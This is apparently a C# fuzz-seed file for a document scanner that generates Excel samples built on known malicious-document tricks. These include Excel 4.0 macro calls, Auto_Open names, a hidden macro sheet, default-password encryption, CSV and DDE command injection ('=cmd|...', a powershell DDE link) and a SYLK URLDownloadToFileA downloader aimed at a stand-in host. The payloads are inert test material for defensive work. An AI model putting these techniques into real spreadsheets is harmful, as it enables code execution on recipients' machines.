using Postvakt.Documents.Tests.Building;

namespace Postvakt.Fuzz.Documents;

internal static class ExcelSeeds
{
    private const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>";
    private const string Relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    public static IReadOnlyList<string> Words { get; } =
    [
        "\n\u001f+", "Workbook", "Book", "xl/workbook.xml", "=EXEC(", "=CALL(", "=REGISTER(", "=FORMULA(", "=FORMULA.FILL(", "=SET.VALUE(", "=SET.NAME(", "=GOTO(", "=RUN(", "=FOR(\"i\",1,9999999)", "=WHILE(TRUE)", "=NEXT()", "=IF(", "=ELSE()", "=END.IF()", "=HALT()", "=RETURN()", "=CHAR(", "=MID(",
        "=CONCATENATE(", "=REPT(\"x\",32767)", "=REPT(A1,1048576)", "=OFFSET(A1,1048575,16383)", "=INDIRECT(\"R1C1\",FALSE)", "=INDEX(", "=CHOOSE(", "=EVALUATE(", "=ON.TIME(", "=FOPEN(", "=FWRITE(", "=GET.WORKSPACE(", "=GET.CELL(", "=DATE(", "=TEXT(1E300,\"yyyy\")", "=NOW()", "=RAND()",
        "=A1:XFD1048576", "A1:IV65536", "$A$1", "R[-1]C", "R1048576C16384", "RC", "!", "'", "\"", "\"\"", "(", ")", "{1,2;3,4}", "&", "+", "-", "*", "/", "^", "%", "<>", ">=", ",", ";", "#REF!", "#N/A", "1E308", "1E999", "-1E-400", "2147483648", "9999999999999999999", "TRUE",
        "=cmd|'/c x'!A0", "@SUM(1)*", "ID;PWXL;N;E\r\n", "O;E\r\n", "NN;N", ";E", ";K", ";X", ";Y", ";G", "C;", "E\r\n", "WEB\r\n1\r\n", "=HYPERLINK(\"\"https://a.example\"\",1)", "<c r=\"", "<f>", "<f t=\"shared\" si=\"0\" ref=\"A1:XFD1048576\">", "<f t=\"array\" ref=\"A1:B2\">", "</f>", "<v>", "t=\"s\"", "t=\"str\"",
        "<row r=\"1048576\">", "<definedName name=\"_xlnm.Auto_Open\">", "<sheet name=\"a\" r:id=\"s0\"/>", "<si><t>", "ss:Index=\"", "ss:Formula=\"", "<!DOCTYPE x [", "<!ENTITY a \"b\">", "&#x0;", "&amp;", "<![CDATA[", "]]>", "\u00fc\u0000", "\u0009\u0008\u0010\0", "\u0006\0", "\u0018\0", "\u003c\0", "\n\0\0\0",
        "spinCount=\"10000000\"", "saltSize=\"2147483647\"", "keyBits=\"0\"", "hashAlgorithm=\"MD5\"", "blockSize=\"0\"",
    ];

    public static IReadOnlyList<byte[]> All()
    {
        var plan = Droppers.Datop();
        plan.Programs.Add(("cmd", "/c x"));
        var many = Interpreted();
        return
        [
            new Recipe("ole", "a.xls").Part("Workbook", new Biff8Writer { BreakStringsAt = 90, Footer = "f", Boxes = { "Enable Content" } }.Write(plan)).ToArray(),
            new Recipe("ole", "a.xls").Part("Workbook", new Biff8Writer { WithoutSharedStrings = true }.Write(many)).ToArray(),
            Recipe.Raw("a.xls", Biff8Writer.File(plan)),
            Package("a.xlsm", WorkbookPackage.Xml(plan)), Package("b.xlsm", WorkbookPackage.Xml(many)), Package("a.xlsb", WorkbookPackage.Binary(plan)), Package("b.xlsb", WorkbookPackage.Binary(many)),
            Recipe.Raw("a.xlsx", OfficeLockWriter.Agile(WorkbookPackage.Xml(plan), "VelvetSweatshop", spins: 3)), Recipe.Raw("a.xlsx", OfficeLockWriter.Agile(WorkbookPackage.Binary(plan), "right", spins: 10, hashName: "SHA1")),
            Recipe.Raw("a.xlsx", OfficeLockWriter.Standard(WorkbookPackage.Xml(plan), "right")),
            Recipe.Raw("a.xls", BiffLockWriter.Rc4(plan, "VelvetSweatshop")), Recipe.Raw("a.xls", BiffLockWriter.CryptoApi(plan, "VelvetSweatshop", 128)), Recipe.Raw("a.xls", BiffLockWriter.Xor(plan, "VelvetSweatshop", 0x1234)),
            Recipe.Raw("a.slk", "ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/x\"&R[2]C,\"C:\\a.ocx\",0,0)\r\nC;X1;Y102;EHALT()\r\nC;Y103;K\".dat\"\r\nE\r\n"),
            Recipe.Raw("a.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\n" + string.Concat(many.Sheets[0].Cells.Select((c, i) => $"C;X1;Y{i + 1};E{c.Content[1..].Replace(";", ";;", StringComparison.Ordinal)}\n")) + "E\n"),
            Recipe.Raw("a.csv", "a,b;c\t\"=cmd|'/c x'!A1\",@SUM(1)*cmd|'/c y'!Z9\n\"=HYPERLINK(\"\"https://a.example\"\",1)\"\n"),
            Recipe.Raw("a.iqy", "WEB\n1\nhttps://a.example/x?a=[\"b\",\"c\"]\n\nSelection=EntirePage\n"),
            Recipe.Raw("a.xml", "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Names><NamedRange ss:Name=\"Auto_Open\" ss:RefersTo=\"=S!R3C1\"/></Names>"
                + "<MacroSheet ss:Name=\"S\"><Table><Row ss:Index=\"3\"><Cell ss:Formula=\"=EXEC(RC[1])\"><Data ss:Type=\"Number\">0</Data></Cell><Cell ss:Index=\"4\" ss:HRef=\"https://a.example/\"><Data ss:Type=\"String\">x</Data></Cell></Row></Table></MacroSheet></Workbook>"),
            Written(),
        ];
    }

    /// <summary>The parts of a package that is packed already.</summary>
    private static byte[] Package(string name, byte[] package)
    {
        var recipe = new Recipe("zip", name);
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(package));
        foreach (var entry in zip.Entries)
        {
            using var from = entry.Open();
            using var into = new MemoryStream();
            from.CopyTo(into);
            recipe.Part(entry.FullName, into.ToArray());
        }
        return recipe.ToArray();
    }

    /// <summary>What the writer has not: shared strings and formulas, links, connections, comments.</summary>
    private static byte[] Written() => new Recipe("zip", "c.xlsm")
        .Part("[Content_Types].xml", Types + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>")
        .Part("_rels/.rels", $"{Relations}<Relationship Id=\"r\" Type=\"{Office}officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")
        .Part("xl/_rels/workbook.xml.rels", $"{Relations}<Relationship Id=\"s0\" Type=\"{Office}worksheet\" Target=\"s.xml\"/><Relationship Id=\"s1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"m.xml\"/><Relationship Id=\"t\" Type=\"{Office}sharedStrings\" Target=\"t.xml\"/><Relationship Id=\"e\" Type=\"{Office}externalLink\" Target=\"e.xml\"/><Relationship Id=\"c\" Type=\"{Office}connections\" Target=\"c.xml\"/></Relationships>")
        .Part("xl/workbook.xml", $"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{Office[..^1]}\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"s0\"/><sheet name=\"M\" sheetId=\"2\" state=\"veryHidden\" r:id=\"s1\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">M!$A$1</definedName></definedNames></workbook>")
        .Part("xl/s.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c t=\"s\"><v>1</v></c></row></sheetData><headerFooter><oddFooter>x</oddFooter></headerFooter></worksheet>")
        .Part("xl/m.xml", "<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f t=\"shared\" si=\"0\" ref=\"A1:A3\">EXEC(B1&amp;A!A1)</f></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/></c><c r=\"B2\"><f>CHAR(65)</f><v>1</v></c></row><row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>")
        .Part("xl/t.xml", "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>Enable</t></si><si><r><t>con</t></r><r><t>tent</t></r></si></sst>")
        .Part("xl/e.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"powershell\" ddeTopic=\"-c exit\"/></externalLink>")
        .Part("xl/c.xml", "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\"><webPr url=\"https://a.example/\"/><dbPr connection=\"x\" command=\"y\"/></connection></connections>").ToArray();

    /// <summary>Most functions that are followed.</summary>
    private static BookPlan Interpreted() => BookPlan.Of(
        "=SET.NAME(\"t\",\"\")", "=FOR(\"i\",1,3)", "=SET.NAME(\"t\",t&CHAR(96+i))", "=NEXT()", "=WHILE(LEN(t)<6)", "=SET.NAME(\"t\",t&MID(\"abc\",2,1))", "=NEXT()",
        "=FOR.CELL(\"c\",A1:B3,TRUE)", "=IF(ISNUMBER(c))", "=BREAK()", "=ELSE.IF(c=2)", "=ALERT(c)", "=ELSE()", "=SET.VALUE(C1:C4,A1:B2)", "=END.IF()", "=NEXT()",
        "=FORMULA(\"=EXEC(RC[1])\",OFFSET(A1,20,0))", "=FORMULA.FILL(TEXT(NOW(),\"yyyy\"),D1:E9)", "=INDEX(A1:C3,2,2)&VLOOKUP(1,A1:C3,2)&MATCH(1,A1:A3,0)&ADDRESS(1,2)", "=INDIRECT(\"R\"&1&\"C\"&2,FALSE)",
        "=CHOOSE(RANDBETWEEN(1,2),\"a\",\"b\")&SUBSTITUTE(t,\"a\",\"b\",1)&REPLACE(t,1,2,\"x\")&REPT(t,3)&FIXED(1.5,1)&DATE(2021,10,12)", "=ON.TIME(NOW(),\"x\")", "=DEFINE.NAME(\"n\",A1)", "=COPY(A1:A3,F1)",
        "=FWRITE(FOPEN(\"x\",3),t)", "=REGISTER(\"a\",\"b\",\"c\",\"d\")", "=CALL(A26,1)", "=EVALUATE(\"1+\"&1)", "=RUN(B9)", "=GOTO(A3)");
}
